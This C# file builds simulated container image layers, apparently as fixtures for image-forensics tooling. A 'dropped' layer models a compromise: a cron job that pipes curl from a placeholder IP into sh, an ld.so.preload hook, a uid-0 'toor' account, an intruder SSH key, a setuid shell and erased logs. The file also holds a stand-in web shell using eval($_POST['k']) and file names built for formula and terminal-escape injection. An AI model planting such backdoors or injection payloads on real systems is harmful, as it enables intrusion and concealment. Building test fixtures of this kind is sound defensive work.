using SampleRecipes.Archive;
using SampleRecipes.Engine;

namespace SampleRecipes.Webshop;

/// <summary>The files of the images. Nothing in them runs: programs, keys and the web shell are stand-ins.</summary>
internal static class WebshopTrees
{
    public const string Shell = "stand-in for a shell\n";
    public const string Scanner = "#!/bin/sh\n# stand-in for a network scanner, does nothing\n";
    public const string WebShell = "<?php // stand-in for a web shell, does nothing: eval($_POST['k'])\n";

    public static void FillBase(AufsLayer layer)
    {
        Stamp made = Stamp.Parse("2015-05-11T22:09:41Z");
        Stamp packaged = Stamp.Parse("2014-03-01T23:05:40Z");
        layer.Directories(made, "bin", "dev", "etc", "etc/cron.d", "home", "mnt", "opt", "proc", "sbin", "srv", "sys", "usr");
        layer.Directories(made, "usr/bin", "usr/lib", "usr/sbin", "usr/local", "usr/local/bin");
        layer.Directories(made, "var", "var/lib", "var/lib/dpkg", "var/log", "var/run");
        layer.Directory("root", made, Modes.Private);
        layer.Directory("tmp", made, Modes.Shared);
        layer.File("bin/bash", Stamp.Parse("2014-09-25T19:26:08Z"), "stand-in for bash\n", Modes.Executable);
        layer.File("bin/dash", packaged, Shell, Modes.Executable);
        layer.Symlink("bin/sh", packaged, "dash");
        layer.File("bin/su", Stamp.Parse("2014-11-19T22:04:31Z"), "stand-in for su\n", Modes.SetUid);
        layer.File("etc/debian_version", Stamp.Parse("2015-01-10T11:30:12Z"), "7.8\n");
        layer.File("etc/group", made, "root:x:0:\nadm:x:4:\nwww-data:x:33:\nshadow:x:42:\n");
        layer.File("etc/hostname", made, "base\n");
        layer.File("etc/passwd", made, Passwd);
        layer.File("etc/shadow", made, "root:*:16566:0:99999:7:::\nwww-data:*:16566:0:99999:7:::\n", Modes.GroupReadable, gid: 42);
        layer.File("root/.profile", Stamp.Parse("2007-11-19T17:57:23Z"), "mesg n\n");
        layer.File("usr/bin/passwd", Stamp.Parse("2012-05-25T13:58:07Z"), "stand-in for passwd\n", Modes.SetUid);
        layer.HardLink("usr/bin/passwd.dist", "usr/bin/passwd");
        layer.File("var/lib/dpkg/status", made, "Package: dash\nStatus: install ok installed\nVersion: 0.5.7-3\n");
        layer.File("var/log/auth.log", made, "May 11 22:09:41 base sshd[1]: Server listening on 0.0.0.0 port 22.\n", Modes.GroupReadable, gid: 4);
        layer.File("var/log/lastlog", made, "stand-in for lastlog\n");
    }

    public static void FillMySql(AufsLayer layer, Stamp installed)
    {
        Stamp now = installed.AddMicroseconds(-2_000_000).Whole;
        layer.Directories(now, "etc", "etc/mysql", "usr", "usr/sbin", "var", "var/lib", "var/lib/dpkg");
        layer.Directory("var/lib/mysql", now, Modes.Private, uid: 104, gid: 107);
        layer.File("etc/mysql/my.cnf", Stamp.Parse("2015-05-05T11:20:41Z"), "[mysqld]\ndatadir = /var/lib/mysql\n");
        layer.File("usr/sbin/mysqld", Stamp.Parse("2015-05-05T11:31:02Z"), "stand-in for mysqld\n", Modes.Executable);
        layer.File("var/lib/dpkg/status", now, "Package: mysql-server\nStatus: install ok installed\nVersion: 5.5.43-0+deb7u1\n");
    }

    public static void FillApache(AufsLayer layer, Stamp installed)
    {
        Stamp now = installed.AddMicroseconds(-1_000_000).Whole;
        layer.Directories(now, "etc", "etc/apache2", "usr", "usr/sbin", "var", "var/lib", "var/lib/dpkg", "var/log", "var/www");
        layer.Directory("var/log/apache2", now, gid: 4);
        layer.File("etc/apache2/apache2.conf", Stamp.Parse("2014-12-25T17:30:22Z"), "ServerName shop.example.com\n");
        layer.File("usr/sbin/apache2", Stamp.Parse("2014-12-25T17:31:59Z"), "stand-in for apache2\n", Modes.Executable);
        layer.File("var/lib/dpkg/status", now, "Package: apache2\nStatus: install ok installed\nVersion: 2.2.22-13+deb7u4\n");
        foreach (string name in new[] { "access.log", "error.log", "other_vhosts_access.log" })
            layer.File("var/log/apache2/" + name, now, "", Modes.GroupReadable, gid: 4);
    }

    public static void FillShop(AufsLayer layer, Stamp copied, string version)
    {
        Stamp now = copied.Whole;
        Stamp written = Stamp.Parse("2015-05-19T16:02:44Z");
        layer.Directories(now, "var", "var/www", "var/www/shop", "var/www/shop/cache", "var/www/shop/images");
        layer.File("var/www/shop/cache/tpl-001.php", written, "<?php // compiled template\n");
        layer.File("var/www/shop/cache/tpl-002.php", written, "<?php // compiled template\n");
        layer.File("var/www/shop/config.php", written, "<?php $db_host = 'mysql';\n");
        layer.File("var/www/shop/images/logo.png", Stamp.Parse("2014-02-03T10:15:00Z"), "stand-in for a picture\n");
        layer.File("var/www/shop/index.php", written, $"<?php // {version}\n");
    }

    /// <summary>What the script from the net left behind in the image <c>shop/web:1.1</c>.</summary>
    public static void FillDropped(AufsLayer layer, Stamp created)
    {
        Stamp now = created.AddMicroseconds(-600_000).Whole;
        layer.Directories(now, "etc", "etc/cron.d", "usr", "usr/lib", "var", "var/log");
        layer.Directory("root", now, Modes.Private);
        layer.Directory("root/.ssh", now, Modes.Private);
        layer.File("etc/cron.d/.sysstat", Stamp.Parse("2011-08-14T05:00:00Z"), "*/5 * * * * root curl -s http://192.0.2.44/b | sh\n");
        layer.File("etc/ld.so.preload", now, "/usr/lib/libnss_shop.so\n");
        layer.File("etc/passwd", now, Passwd + "toor:x:0:0:toor:/root:/bin/bash\n");
        layer.File("root/.ssh/authorized_keys", now, "ssh-rsa AAAAFAKEFAKEFAKE intruder@198.51.100.23\n", Modes.Secret);
        layer.File("usr/lib/.dbus-daemon", now, Shell, Modes.SetUid);
        layer.File("usr/lib/libnss_shop.so", now, "stand-in for a preloaded library\n");
        layer.Whiteout("var/log/auth.log", now);
        layer.Whiteout("var/log/lastlog", now);
    }

    /// <summary>Names that trip tools: line breaks, bytes that are not UTF-8, formulas, text direction, escapes.</summary>
    public static void FillOddNames(AufsLayer layer)
    {
        Stamp now = Stamp.Parse("2015-06-12T22:15:20.801733465Z");
        layer.Directory("data", now);
        foreach (string name in OddNames)
            layer.File("data/" + name, now, "odd\n");
        layer.File("data/a1", now, "one inode, two names\n");
        layer.HardLink("data/a2", "data/a1");
        layer.Symlink("data/loop", now, "loop");
    }

    private static readonly string[] OddNames =
    [
        "=cmd|'calc'!A0",
        "-rf",
        "back\\slash",
        "caf\udce9.txt",
        "invoice\u202efdp.exe",
        "new\nline",
        "\u001b[2Jcleared",
        "\u200f\u05d3\u05d5\u05d7.txt",
        "\u0434\u0430\u043d\u043d\u044b\u0435.csv",
    ];

    private const string Passwd =
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/bin/sh\nmysql:x:104:107::/nonexistent:/bin/false\n";
}
